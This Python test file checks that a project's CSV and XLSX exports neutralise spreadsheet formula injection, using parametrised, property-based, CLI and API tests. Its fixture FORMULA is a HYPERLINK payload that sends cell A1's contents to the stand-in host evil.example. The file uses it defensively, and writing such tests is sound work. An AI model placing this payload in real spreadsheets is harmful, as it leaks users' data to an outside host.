"""Spreadsheet formula injection: every CSV and XLSX we write neutralises formula cells.

The OWASP rule (``xinyong.spreadsheet``): a text cell starting with ``=``, ``+``, ``-``, ``@``,
tab or CR gets a leading ``'``; numbers such as ``-12.5`` stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest
from fastapi.testclient import TestClient
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from xinyong.api.app import create_app
from xinyong.catalog import default_catalog
from xinyong.cli import app
from xinyong.ingest import ingest_file
from xinyong.lab.writers import open_writer
from xinyong.spreadsheet import (
    _NUMBER,
    FORMULA_PREFIXES,
    neutralise,
    neutralise_arrow,
    neutralise_sql,
)

from .conftest import PERSON_D, Load, defaulter

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
runner = CliRunner()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.5", "-12.5"),  # a negative number is data, not a formula
        ("+86", "+86"),
        ("1e-3", "1e-3"),
        ("王五", "王五"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_prefixes_formulas_and_keeps_numbers(cell: object, written: object) -> None:
    assert neutralise(cell) == written


def _cells(text: st.SearchStrategy[str]) -> st.SearchStrategy[list[str | None]]:
    """Batches of cells: any text, formula prefixes before any text and before numbers (which
    stay as they are), the prefixes alone, empty cells and NULLs."""
    prefix = st.sampled_from(FORMULA_PREFIXES)
    number = st.from_regex(_NUMBER, fullmatch=True).filter(lambda n: n.isascii())
    cell = st.one_of(
        text,
        st.builds(str.__add__, prefix, text),
        number,
        prefix,
        st.just(""),
        st.none(),
    )
    return st.lists(cell, max_size=60)


def _by_sql(cells: list[str | None]) -> list[str | None]:
    con = duckdb.connect()
    con.register("t", pa.table({"n": range(len(cells)), "c": pa.array(cells, pa.string())}))
    rows = con.sql(f"SELECT {neutralise_sql('c')} FROM t ORDER BY n").fetchall()
    return [r[0] for r in rows]


@settings(max_examples=200, deadline=None)
@given(_cells(st.text()))
@example(["-３", "-٣", "=1", "-12.5", "+.5e+3", "- 1", "-1\n", "\t", "\r-1", "@", None, ""])
def test_neutralise_arrow_is_neutralise_sql(cells: list[str | None]) -> None:
    """The Arrow form (the screen's CSV) and the SQL form give the same cells on any text."""
    got = neutralise_arrow(pa.array(cells, pa.string())).to_pylist()
    assert got == _by_sql(cells)


@settings(max_examples=200, deadline=None)
@given(_cells(st.text()))
@example(["-３", "-٣", "+١٢", "-12.5", "=1", None, ""])
def test_neutralise_arrow_is_neutralise(cells: list[str | None]) -> None:
    """The Arrow form is the Python rule on any text, other digits than ASCII ones included;
    sliced arrays too (a batch's column may start inside its buffers)."""
    array = pa.array(["=x", *cells], pa.string()).slice(1)
    assert neutralise_arrow(array).to_pylist() == [neutralise(c) for c in cells]


def test_the_rule_reaches_its_cases_on_every_engine() -> None:
    cells = ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-12.5", "+86", "1e-3", "王五", ""]
    expected = ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-12.5", "+86", "1e-3"]
    expected += ["王五", ""]
    assert [neutralise(c) for c in cells] == expected
    assert _by_sql(cells) == expected
    assert neutralise_arrow(pa.array(cells)).to_pylist() == expected


def test_a_prefix_before_other_digits_is_prefixed_on_every_engine() -> None:
    """``-３`` (full-width digit) and ``-٣`` are not numbers to a spreadsheet: every engine
    prefixes them (Python's ``\\d`` would take them as digits without ``re.ASCII``)."""
    cells = ["-３", "-٣"]
    expected = ["'-３", "'-٣"]
    assert [neutralise(c) for c in cells] == expected
    assert neutralise_arrow(pa.array(cells)).to_pylist() == expected
    assert _by_sql(cells) == expected


def test_rejects_file_neutralises_formula_cells(engine: object, tmp_path: Path) -> None:
    row = defaulter("110101199003077777", FORMULA, "+x", **{"@备注": "-5"})  # bad check digit
    path = tmp_path / "in.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    rejects = tmp_path / "in.csv.rejects.csv"
    ingest_file(
        engine,  # type: ignore[arg-type]
        path,
        "judgment_defaulter",
        "court",
        catalog=default_catalog(),
        rejects_path=rejects,
    )
    with rejects.open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    got = dict(zip(rows[0], rows[1], strict=False))
    assert "'@备注" in rows[0]
    assert got["被执行人姓名/名称"] == "'" + FORMULA
    assert (got["案号"], got["'@备注"]) == ("'+x", "-5")
    assert got["reason"].startswith("subject_code")


def test_screen_csv_neutralises_the_echoed_code(db_url: str, load: Load, tmp_path: Path) -> None:
    load("judgment_defaulter", [defaulter(PERSON_D, "王五", "（2024）浙0106执1号")])
    source = tmp_path / "in.csv"
    source.write_text("code\n" + "\n".join(["=1+1", "-7", PERSON_D]) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    result = runner.invoke(
        app, ["screen", str(source), "--action", "buy_flight_ticket", "--out", str(out),
              "--db", db_url],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8") as handle:
        codes = [row["code"] for row in csv.DictReader(handle)]
    assert codes == ["'=1+1", "-7", PERSON_D]


def test_public_list_csv_neutralises_formula_names(db_url: str, load: Load) -> None:
    recent = (date.today() - timedelta(days=10)).isoformat()
    load(
        "judgment_defaulter", [defaulter(PERSON_D, FORMULA, "（2024）浙0106执1号", 决定日期=recent)]
    )
    app = create_app(db_url, secret=b"test-secret")
    with TestClient(app) as client:
        response = client.get("/lists/judgment_defaulters", params={"format": "csv"})
    app.state.engine.dispose()
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert len(rows) == 2, rows
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for cell in rows[1])
    assert rows[1][0].startswith("'=")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_lab_exports_neutralise_text_and_keep_numbers(fmt: str, tmp_path: Path) -> None:
    table = pa.table({"name": [FORMULA, "-3", "王五"], "amount": [-1.5, 2.0, -0.25]})
    writer = open_writer(fmt, tmp_path / "out", table.schema)
    writer.write(table)
    writer.close()
    if fmt == "csv":
        with writer.path.open(encoding="utf-8") as handle:
            rows = list(csv.reader(handle))[1:]
        assert rows == [["'" + FORMULA, "-1.50"], ["-3", "2.00"], ["王五", "-0.25"]]
    else:
        sheet = load_workbook(writer.path).worksheets[0]
        cells = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
        assert cells == [["'" + FORMULA, -1.5], ["-3", 2.0], ["王五", -0.25]]
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
